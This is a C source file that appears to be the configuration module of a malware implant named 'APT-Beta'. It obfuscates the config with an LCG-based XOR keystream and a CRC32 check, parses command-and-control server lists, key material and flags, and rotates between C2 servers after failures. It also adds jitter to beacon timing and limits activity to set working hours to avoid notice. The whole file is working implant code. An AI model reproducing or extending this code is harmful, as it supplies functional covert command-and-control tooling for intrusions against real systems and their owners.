/* APT-Beta: the configuration block.
 *
 * Stored in the implant as len(2) crc32(4) data, data XORed with a keystream from a 32-bit LCG
 * seeded with 0x3c71a9e5 and the length. Decoded, it is text, one key=value per line:
 *   campaign=  c2=host:port;host:port  interval=  jitter=  hours=8-19  key=<32 hex>  flags= */
#include <ctype.h>
#include <stdlib.h>
#include <string.h>

#include <zlib.h>

#include "beta.h"

static void cfg_xor(uint8_t *p, size_t n)
{
    uint32_t st = 0x3c71a9e5u ^ (uint32_t)n;
    for (size_t i = 0; i < n; i++) {
        st = st * 1103515245u + 12345u;
        p[i] ^= (uint8_t)(st >> 17) ^ (uint8_t)(i * 0x1f);
    }
}

/* decodes in place; returns the text length (NUL-terminated at blob[6 + len]) or 0 */
size_t beta_cfg_decode(uint8_t *blob, size_t n)
{
    if (n < 6)
        return 0;
    size_t len = (size_t)(blob[0] | blob[1] << 8);
    if (len + 7 > n)
        return 0;
    uint32_t want = (uint32_t)blob[2] | (uint32_t)blob[3] << 8 | (uint32_t)blob[4] << 16 |
                    (uint32_t)blob[5] << 24;
    cfg_xor(blob + 6, len);
    if ((uint32_t)crc32(0L, blob + 6, (uInt)len) != want) {
        cfg_xor(blob + 6, len); /* leave it as it was */
        return 0;
    }
    blob[6 + len] = 0;
    return len;
}

size_t beta_cfg_encode(uint8_t *out, size_t cap, const char *text)
{
    size_t len = strlen(text);
    if (len + 7 > cap || len > 0xffff)
        return 0;
    memcpy(out + 6, text, len);
    uint32_t c = (uint32_t)crc32(0L, out + 6, (uInt)len);
    out[0] = (uint8_t)len;
    out[1] = (uint8_t)(len >> 8);
    for (int i = 0; i < 4; i++)
        out[2 + i] = (uint8_t)(c >> (8 * i));
    cfg_xor(out + 6, len);
    out[6 + len] = 0;
    return len + 7;
}

static int parse_port(const char *s, const char *end, uint16_t *port)
{
    unsigned v = 0;
    if (s == end)
        return -1;
    for (; s < end; s++) {
        if (!isdigit((unsigned char)*s))
            return -1;
        v = v * 10 + (unsigned)(*s - '0');
        if (v > 65535)
            return -1;
    }
    *port = (uint16_t)v;
    return 0;
}

int beta_cfg_parse_c2(struct beta_cfg *cfg, const char *list)
{
    const char *p = list;
    cfg->n_c2 = 0;
    while (*p && cfg->n_c2 < BETA_MAX_C2) {
        const char *end = strchr(p, ';');
        if (!end)
            end = p + strlen(p);
        const char *colon = memchr(p, ':', (size_t)(end - p));
        struct beta_c2 *c = &cfg->c2[cfg->n_c2];
        size_t hl = colon ? (size_t)(colon - p) : (size_t)(end - p);
        if (hl == 0 || hl >= sizeof(c->host))
            return -1;
        memcpy(c->host, p, hl);
        c->host[hl] = 0;
        c->port = 443;
        if (colon && parse_port(colon + 1, end, &c->port) < 0)
            return -1;
        c->failures = 0;
        cfg->n_c2++;
        p = *end ? end + 1 : end;
    }
    return (int)cfg->n_c2;
}

int beta_cfg_parse_hours(struct beta_cfg *cfg, const char *spec)
{
    char *e;
    long a = strtol(spec, &e, 10);
    if (e == spec || *e != '-' || a < 0 || a > 23)
        return -1;
    const char *s2 = e + 1;
    long b = strtol(s2, &e, 10);
    if (e == s2 || b < 0 || b > 24)
        return -1;
    cfg->hour_from = (uint8_t)a;
    cfg->hour_to = (uint8_t)b;
    return 0;
}

static int hexval(int c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    c |= 0x20;
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    return -1;
}

int beta_cfg_parse(struct beta_cfg *cfg, const char *text)
{
    char line[256];
    int errors = 0;
    memset(cfg, 0, sizeof(*cfg));
    cfg->interval_s = 600;
    cfg->jitter_pct = 15;
    cfg->hour_to = 24;
    for (const char *p = text; *p;) {
        const char *nl = strchr(p, '\n');
        size_t n = nl ? (size_t)(nl - p) : strlen(p);
        if (n >= sizeof(line))
            n = sizeof(line) - 1;
        memcpy(line, p, n);
        line[n] = 0;
        p = nl ? nl + 1 : p + n;
        while (n && (line[n - 1] == '\r' || line[n - 1] == ' '))
            line[--n] = 0;
        if (!n || line[0] == '#')
            continue;
        char *eq = strchr(line, '=');
        if (!eq) {
            errors++;
            continue;
        }
        *eq = 0;
        const char *k = line, *v = eq + 1;
        if (!strcmp(k, "campaign")) {
            strncpy(cfg->campaign, v, sizeof(cfg->campaign) - 1);
        } else if (!strcmp(k, "c2")) {
            if (beta_cfg_parse_c2(cfg, v) <= 0)
                errors++;
        } else if (!strcmp(k, "interval")) {
            cfg->interval_s = (unsigned)strtoul(v, NULL, 10);
        } else if (!strcmp(k, "jitter")) {
            cfg->jitter_pct = (unsigned)strtoul(v, NULL, 10) % 100;
        } else if (!strcmp(k, "hours")) {
            errors += beta_cfg_parse_hours(cfg, v) < 0;
        } else if (!strcmp(k, "key")) {
            if (strlen(v) != 32) {
                errors++;
                continue;
            }
            for (int i = 0; i < 16; i++) {
                int hi = hexval((unsigned char)v[2 * i]), lo = hexval((unsigned char)v[2 * i + 1]);
                if (hi < 0 || lo < 0) {
                    errors++;
                    break;
                }
                cfg->key[i] = (uint8_t)(hi << 4 | lo);
            }
        } else if (!strcmp(k, "flags")) {
            cfg->flags = (uint32_t)strtoul(v, NULL, 0);
        } else {
            errors++;
        }
    }
    return cfg->n_c2 ? -errors : -100;
}

int beta_cfg_load(struct beta_cfg *cfg, const uint8_t *blob, size_t n)
{
    uint8_t buf[2048];
    if (n > sizeof(buf))
        return -1;
    memcpy(buf, blob, n);
    if (beta_cfg_decode(buf, n) == 0)
        return -2;
    int r = beta_cfg_parse(cfg, (const char *)buf + 6);
    memset(buf, 0, sizeof(buf));
    if (cfg->campaign[0] == 0)
        strcpy(cfg->campaign, "default");
    return r;
}

/* round robin; a server that failed 3 times in a row is skipped until all have failed */
const struct beta_c2 *beta_cfg_next_c2(struct beta_cfg *cfg, int last_failed)
{
    if (!cfg->n_c2)
        return NULL;
    struct beta_c2 *cur = &cfg->c2[cfg->cur_c2 % cfg->n_c2];
    if (!last_failed) {
        cur->failures = 0;
        return cur;
    }
    if (cur->failures < 255)
        cur->failures++;
    for (unsigned k = 1; k <= cfg->n_c2; k++) {
        unsigned idx = (cfg->cur_c2 + k) % cfg->n_c2;
        if (cfg->c2[idx].failures < 3) {
            cfg->cur_c2 = idx;
            return &cfg->c2[idx];
        }
    }
    for (unsigned k = 0; k < cfg->n_c2; k++)
        cfg->c2[k].failures = 0;
    cfg->cur_c2 = (cfg->cur_c2 + 1) % cfg->n_c2;
    return &cfg->c2[cfg->cur_c2];
}

unsigned beta_cfg_interval(const struct beta_cfg *cfg, uint32_t rnd)
{
    unsigned base = cfg->interval_s ? cfg->interval_s : 600;
    unsigned span = base * cfg->jitter_pct / 100;
    if (!span)
        return base;
    return base - span + rnd % (2 * span + 1);
}

int beta_cfg_active(const struct beta_cfg *cfg, unsigned hour)
{
    if (cfg->hour_from <= cfg->hour_to)
        return hour >= cfg->hour_from && hour < cfg->hour_to;
    return hour >= cfg->hour_from || hour < cfg->hour_to; /* over midnight */
}
